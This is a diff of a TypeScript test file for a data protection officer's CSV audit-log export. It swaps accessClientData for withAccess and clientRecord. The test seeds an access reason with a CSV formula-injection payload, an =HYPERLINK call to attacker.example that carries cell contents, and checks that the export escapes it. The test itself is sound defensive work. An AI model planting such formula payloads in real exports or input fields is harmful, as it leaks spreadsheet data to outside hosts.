@@ -1,7 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { clientId, staffUserId } from '../../src/features/identity/demo.ts';
-import { accessClientData } from '../../src/platform/access/index.ts';
+import { clientRecord, withAccess } from '../../src/platform/access/index.ts';
 import type { StaffActor } from '../../src/platform/auth/actor.ts';
 import { stableUuid } from '../../src/platform/ids.ts';
 import { startTestApp, type TestApp } from '../app.ts';
@@ -28,18 +28,13 @@ describe("the DPO's CSV export", () => {
       sessionId: 's',
     };
     const reason = '=HYPERLINK("http://attacker.example/?x="&A1,"Avaa")';
-    await accessClientData(
+    await withAccess(
       t.database.db,
       receiver,
-      {
-        clientId: clientId('asiakas'),
-        registryOrganizationId: PS_ORG,
-        action: 'read',
-        resource: { type: 'contact', id: 'csv-contact' },
-        breakGlass: true,
-        reason,
-      },
+      'read',
+      clientRecord(clientId('asiakas'), PS_ORG, { breakGlass: true }),
       async () => 1,
+      { reason },
     );
     const session = await t.app.inject({
       method: 'POST',
@@ -51,7 +46,7 @@ describe("the DPO's CSV export", () => {
     expect(res.statusCode).toBe(200);
     const rows = parse(res.body, { bom: true }) as string[][];
     const header = rows[0] ?? [];
-    const row = rows.find((r) => r[header.indexOf('resource_id')] === 'csv-contact');
+    const row = rows.find((r) => r[header.indexOf('resource_type')] === 'client_record');
     expect(row?.[header.indexOf('reason')]).toBe(`'${reason}`);
     for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
   });
